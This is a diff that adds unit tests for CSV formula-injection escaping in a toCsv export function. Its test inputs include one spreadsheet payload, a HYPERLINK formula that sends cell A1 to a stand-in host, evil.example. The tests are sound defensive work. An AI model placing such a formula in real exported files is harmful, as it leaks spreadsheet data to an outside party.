@@ -23,6 +23,33 @@ it('leaves a field empty where a value cannot be told', () => {
   );
 });
 
+it.each([
+  ['=1+1', `"'=1+1"`],
+  ['+cmd', `"'+cmd"`],
+  ['-1+1', `"'-1+1"`],
+  ['@SUM(A1)', `"'@SUM(A1)"`],
+  ['\t=1', `"'\t=1"`],
+  ['\rx', `"'\rx"`],
+  ['\n=1', `"'\n'=1"`],
+  [' =1', `"' =1"`],
+  ['＝1', `"'＝1"`],
+  ['"=1', `"""'=1"`],
+  ['a"\r\n-x', `"a""\r\n'-x"`],
+  ['a;=1', '"a;=1"'],
+  ['a\t=1', '"a\t=1"'],
+  ['=HYPERLINK("http://evil.example?"&A1,"x")', `"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`],
+  ['-5', '-5'],
+  ['-1e-300', '-1e-300'],
+  ['+49', '+49'],
+  ['a-b=c@d+e', 'a-b=c@d+e'],
+  ['', ''],
+])('a label %j is the field %s, in a row and in the header', (value, field) => {
+  const series: GroupPoints[] = [{ labels: { [value]: value }, points: [[0, -1]] }];
+  expect(toCsv({ aggregate: 'avg', series }, [value])).toBe(
+    `timestamp,time,${field},avg\r\n0,1970-01-01T00:00:00.000Z,${field},-1\r\n`,
+  );
+});
+
 it('writes the header alone when there are no points', () => {
   expect(toCsv({ aggregate: 'avg', series: [] }, [])).toBe('timestamp,time,avg\r\n');
 });
